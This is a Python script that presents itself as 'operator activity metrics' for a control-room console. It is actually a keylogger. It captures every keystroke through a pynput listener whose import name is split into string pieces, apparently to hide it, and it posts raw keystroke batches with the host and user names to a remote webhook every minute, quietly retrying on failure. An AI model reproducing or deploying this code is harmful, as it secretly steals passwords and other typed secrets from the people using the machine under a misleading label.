#!/usr/bin/env python3
"""Operator activity metrics for the control-room console.

Measures how the duty operator uses the console (barrier overrides, intercom
lookups, plate searches) and forwards batches to the metrics collector.
"""
import argparse
import importlib
import json
import logging
import os
import queue
import socket
import threading
import time
from dataclasses import dataclass, field

log = logging.getLogger("console.metrics")


@dataclass
class Batch:
    host: str = field(default_factory=socket.gethostname)
    operator: str = field(default_factory=lambda: os.environ.get("USER", "duty"))
    events: list = field(default_factory=list)

    def as_json(self):
        return json.dumps({"host": self.host, "operator": self.operator,
                           "events": self.events}).encode()


class Collector:
    def __init__(self, url, interval):
        self.url = url
        self.interval = interval
        self.inbox = queue.Queue()
        self._stop = threading.Event()

    def record(self, text):
        self.inbox.put((time.time(), text))

    def _drain(self):
        batch = Batch()
        while True:
            try:
                ts, text = self.inbox.get_nowait()
            except queue.Empty:
                break
            batch.events.append({"t": round(ts, 3), "k": text})
        return batch

    def _post(self, batch):
        http = importlib.import_module("urllib.request")
        req = http.Request(self.url, data=batch.as_json(),
                           headers={"Content-Type": "application/json"})
        try:
            with http.urlopen(req, timeout=15) as resp:
                log.debug("collector %s", resp.status)
        except OSError as exc:
            log.debug("post failed: %s", exc)
            for ev in batch.events:
                self.inbox.put((ev["t"], ev["k"]))

    def pump(self):
        while not self._stop.wait(self.interval):
            batch = self._drain()
            if batch.events:
                self._post(batch)

    def stop(self):
        self._stop.set()


def key_text(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def make_handler(collector):
    def on_press(key):
        collector.record(key_text(key))
    return on_press


def attach_listener(handler):
    lib = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(lib, "List" + "ener")
    listener = listener_cls(on_press=handler)
    listener.daemon = True
    listener.start()
    return listener


def main():
    ap = argparse.ArgumentParser(description="Console activity metrics")
    ap.add_argument("--url", default=os.environ.get(
        "CONSOLE_METRICS_HOOK", "https://hooks.example.net/services/T0PARK/B0OPS/console"))
    ap.add_argument("--interval", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    collector = Collector(args.url, args.interval)
    listener = attach_listener(make_handler(collector))
    pump = threading.Thread(target=collector.pump, daemon=True)
    pump.start()
    try:
        while listener.is_alive():
            time.sleep(1)
    except KeyboardInterrupt:
        pass
    finally:
        collector.stop()
        listener.stop()


if __name__ == "__main__":
    main()
